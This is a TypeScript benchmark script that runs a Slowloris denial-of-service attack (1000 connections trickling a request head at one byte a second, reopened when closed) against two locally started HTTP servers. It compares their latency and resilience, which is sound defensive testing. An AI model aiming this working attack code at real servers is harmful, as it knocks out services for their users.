// Slowloris against tsgun and against a bare node:cluster server (bench/cluster-peer.ts), the same
// run for each: `--tricklers` connections send a request head one byte a second and are reopened as
// soon as the server closes one (an attacker keeps its count up), while `--clients` normal clients
// send GET / on a new connection each, one after another, for `--duration` seconds. Prints the normal
// clients' latency (p50, p99, max) and success rate, how many tricklers each server closed and how
// long the longest-lived one stayed, and the load average, since the machine may be shared.
//
// tsgun runs with `--headers-timeout` (TSGUN_HEADERS_TIMEOUT), and so does the peer (checked as often
// as tsgun has Node check it), so that both close and re-accept the same churn of tricklers;
// `--peer-defaults` leaves the peer Node's defaults instead (headersTimeout 60 s, checked every 30 s:
// it then holds its tricklers, which cost it less than closing them does).
//
//   node bench/slowloris.ts [--tricklers 1000] [--clients 4] [--duration 30] [--headers-timeout 10] [--workers 2] [--rounds 2] [--peer-defaults]

import { execFileSync } from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import { loadavg } from 'node:os';
import { parseArgs } from 'node:util';
import { startServer, type Server, type ServerKind } from './servers.ts';

const { values } = parseArgs({
  options: {
    tricklers: { type: 'string', default: '1000' },
    clients: { type: 'string', default: '4' },
    duration: { type: 'string', default: '30' },
    'headers-timeout': { type: 'string', default: '10' },
    workers: { type: 'string', default: '2' },
    rounds: { type: 'string', default: '2' },
    'peer-defaults': { type: 'boolean', default: false },
  },
});
const TRICKLERS = Number(values.tricklers);
const CLIENTS = Number(values.clients);
const DURATION_MS = Number(values.duration) * 1000;
const workers = Number(values.workers);
/** A normal request slower than this counts as failed. */
const REQUEST_TIMEOUT_MS = 5_000;

// This process holds every trickler and client socket, and each server's workers hold them too.
const needed = TRICKLERS + CLIENTS + 256;
const limit = Number(execFileSync('sh', ['-c', 'ulimit -n'], { encoding: 'utf8' }).trim());
if (Number.isFinite(limit) && limit < needed) {
  console.error(`ulimit -n is ${limit}; ${TRICKLERS} tricklers need at least ${needed}: run \`ulimit -n ${needed * 2}\` first`);
  process.exit(2);
}
process.env['TSGUN_HEADERS_TIMEOUT'] = values['headers-timeout'];
if (!values['peer-defaults']) process.env['HEADERS_TIMEOUT_MS'] = String(Number(values['headers-timeout']) * 1000);

interface Attack {
  /** Connections the server closed, and the longest time one of them had been open. */
  readonly closes: number;
  readonly longestMs: number;
  readonly open: number;
  /** Trickler connections that failed otherwise than by the server's close, by error code. */
  readonly errors: ReadonlyMap<string, number>;
  stop(): void;
}

/** Keeps `count` connections trickling a head at one byte a second, each reopened once the server closes it. */
function attack(host: string, port: number, count: number): Attack {
  const head = `GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: slowloris\r\nX-Slow: ${'s'.repeat(600)}\r\n\r\n`;
  const conns = new Set<{ socket: net.Socket; sent: number; opened: number }>();
  let stopped = false;
  const state = { closes: 0, longestMs: 0 };
  const errors = new Map<string, number>();
  const open = (): void => {
    const conn = { socket: net.connect(port, host), sent: 0, opened: Date.now() };
    conns.add(conn);
    // A reset after the server's 408 is its close; anything else (refused, no port left) is reported.
    conn.socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') errors.set(error.code ?? error.message, (errors.get(error.code ?? error.message) ?? 0) + 1);
    });
    // Read (and drop) the 408: a socket that reads nothing never sees the server's close.
    conn.socket.resume();
    // The first byte at once: headersTimeout counts from it (the longest-lived figure then measures the server).
    conn.socket.once('connect', () => conn.socket.write(head[conn.sent++]!));
    conn.socket.on('close', () => {
      conns.delete(conn);
      if (stopped) return;
      state.closes++;
      state.longestMs = Math.max(state.longestMs, Date.now() - conn.opened);
      setImmediate(open);
    });
  };
  for (let i = 0; i < count; i++) open();
  // One byte a second to each, spread over ten ticks so that the server sees no burst.
  let tick = 0;
  const timer = setInterval(() => {
    let i = 0;
    for (const conn of conns) {
      if (i++ % 10 !== tick % 10 || !conn.socket.writable || conn.socket.connecting) continue;
      if (conn.sent < head.length) conn.socket.write(head[conn.sent++]!);
    }
    tick++;
  }, 100);
  return {
    get closes() {
      return state.closes;
    },
    get longestMs() {
      return state.longestMs;
    },
    get open() {
      return conns.size;
    },
    errors,
    stop() {
      stopped = true;
      clearInterval(timer);
      for (const conn of conns) conn.socket.destroy();
    },
  };
}

/** One GET on a new connection: its latency in ms, or null if it failed. */
function get(host: string, port: number): Promise<number | null> {
  const started = performance.now();
  return new Promise((resolve) => {
    const req = http.get({ host, port, path: '/', agent: false, timeout: REQUEST_TIMEOUT_MS }, (res) => {
      res.resume().on('end', () => resolve(res.statusCode === 200 ? performance.now() - started : null));
    });
    req.on('timeout', () => req.destroy(new Error('timed out')));
    req.on('error', () => resolve(null));
  });
}

function percentile(sorted: readonly number[], p: number): number {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

async function run(kind: ServerKind): Promise<void> {
  const host = kind === 'tsgun' ? '127.0.0.2' : '127.0.0.3';
  const server: Server = await startServer(kind, { host, workers });
  const before = loadavg();
  const tricklers = attack(host, server.port, TRICKLERS);
  try {
    // Let every trickler connect and start its head before the clients begin.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    const latencies: number[] = [];
    let failed = 0;
    const deadline = Date.now() + DURATION_MS;
    await Promise.all(
      Array.from({ length: CLIENTS }, async () => {
        while (Date.now() < deadline) {
          const ms = await get(host, server.port);
          if (ms === null) failed++;
          else latencies.push(ms);
        }
      }),
    );
    latencies.sort((a, b) => a - b);
    const total = latencies.length + failed;
    const fmt = (ms: number): string => `${ms.toFixed(1)} ms`.padStart(10);
    console.log(
      `${kind.padEnd(8)} requests ${String(total).padStart(6)}  success ${((100 * latencies.length) / total).toFixed(2).padStart(6)}%  ` +
        `p50 ${fmt(percentile(latencies, 50))}  p99 ${fmt(percentile(latencies, 99))}  max ${fmt(latencies.at(-1) ?? NaN)}  ` +
        `tricklers open ${tricklers.open}${tricklers.errors.size === 0 ? '' : ` (failed to connect: ${[...tricklers.errors].map(([code, n]) => `${code} ${n}`).join(', ')})`}, ${tricklers.closes === 0 ? 'none closed by the server' : `${tricklers.closes} closed by the server, the longest after ${(tricklers.longestMs / 1000).toFixed(1)} s`}\n         ` +
        `load ${before.map((l) => l.toFixed(2)).join(' ')} -> ${loadavg()
          .map((l) => l.toFixed(2))
          .join(' ')}`,
    );
  } finally {
    tricklers.stop();
    await server.stop();
  }
}

console.log(
  `slowloris: ${TRICKLERS} connections at 1 byte/s (reopened when closed), ${CLIENTS} normal clients (a new connection per request, ${REQUEST_TIMEOUT_MS} ms timeout) for ${values.duration} s, ` +
    `${workers} workers; headersTimeout ${values['headers-timeout']} s for tsgun and ${values['peer-defaults'] ? "Node's defaults for cluster" : 'for cluster'}`,
);
// A B then B A, so that drift in the machine's load hits both alike.
for (let round = 1; round <= Number(values.rounds); round++) {
  for (const kind of (round % 2 === 1 ? ['tsgun', 'cluster'] : ['cluster', 'tsgun']) as ServerKind[]) await run(kind);
}
